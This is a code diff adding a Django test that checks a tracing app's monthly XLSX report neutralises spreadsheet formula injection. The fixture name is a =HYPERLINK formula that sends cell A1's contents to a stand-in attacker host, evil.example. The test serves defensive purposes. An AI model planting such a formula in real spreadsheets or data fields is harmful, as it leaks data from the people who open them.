@@ -260,3 +260,26 @@ def test_t4_a_talk_in_the_future_shows_a_chinese_message(client_for, cast, world
                                             {"held_at": later, "content": "x"})
     assert "谈话时间不能晚于当前时间" in response.content.decode()
     assert Talk.objects.count() == 1
+
+
+def test_t10_a_name_written_as_a_formula_stays_text_in_the_monthly_xlsx(client_for, cast):
+    """Issue 8 hole 6: a name ``=HYPERLINK(...)`` must not become a live formula in the monthly report."""
+    import io
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from tracing.tests.factories import unidentified
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    unidentified(cast, name=evil)
+    month = timezone.localdate().strftime("%Y-%m")
+    response = client_for(cast.tracer).get(reverse("tracing:report_xlsx", args=[cast.station.uuid]) + f"?month={month}")
+    assert response.status_code == 200
+    with zipfile.ZipFile(io.BytesIO(response.content)) as z:
+        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
+    ws = load_workbook(io.BytesIO(response.content)).active
+    names = [row[1] for row in ws.iter_rows(values_only=True)]
+    assert evil in names
+    cell = next(c for row in ws.iter_rows() for c in row if c.value == evil)
+    assert cell.data_type == "s" and cell.quotePrefix
